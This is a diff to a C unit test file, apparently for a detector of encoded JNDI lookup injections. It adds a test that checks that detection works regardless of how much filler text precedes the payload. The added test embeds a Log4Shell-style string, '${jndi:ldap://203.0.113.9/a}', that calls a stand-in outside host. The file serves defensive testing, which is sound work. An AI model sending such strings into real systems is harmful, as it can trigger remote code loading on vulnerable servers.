@@ -369,6 +369,29 @@ static void the_word_of_an_attempt_may_come_late(void)
     }
 }
 
+/* A glance begins a little before what hit, wherever that stands in the text. */
+static void it_does_not_matter_how_far_in_a_look_up_stands(void)
+{
+    static const char *const fillers[] = {"x", "1, ", "{\"a\":0,", "\xc3\xa4 "};
+    for (size_t i = 0; i < ARRAY_LEN(fillers) * encoders_n(); i++) {
+        const struct encoder *e = encoder_at(i % encoders_n());
+        const char *filler = fillers[i / encoders_n()];
+        struct sbuf text = sbuf_with_cap(CAP);
+        for (unsigned n = 0; n < 100; n++) {
+            struct sbuf plain = sbuf_with_cap(CAP);
+            struct sbuf wrapped = sbuf_with_cap(CAP);
+            sbuf_add_str(&text, filler);
+            sbuf_add(&plain, sbuf_span(&text));
+            sbuf_add_str(&plain, "${jndi:ldap://203.0.113.9/a}");
+            e->encode(sbuf_span(&plain), &wrapped);
+            check(sbuf_span(&plain), sbuf_span(&wrapped), e->name, filler);
+            sbuf_free(&plain);
+            sbuf_free(&wrapped);
+        }
+        sbuf_free(&text);
+    }
+}
+
 /* Characters of UTF-16 that are not ASCII belong to the text like the others: here they keep a name
  * from being asked for, or are a part of it. */
 static void utf16_is_not_torn(void)
@@ -408,6 +431,8 @@ static CU_TestInfo pair_tests[] = {
     {"mixed escapes pass the gate", mixed_escapes_pass_the_gate},
     {"every ordered pair is undone", every_ordered_pair_is_undone},
     {"the word of an attempt may come late", the_word_of_an_attempt_may_come_late},
+    {"it does not matter how far in a look-up stands",
+     it_does_not_matter_how_far_in_a_look_up_stands},
     {"UTF-16 is not torn", utf16_is_not_torn},
     {"encodings are told outermost first", encodings_are_told_outermost_first},
     {"harmless texts stay harmless", harmless_texts_stay_harmless},
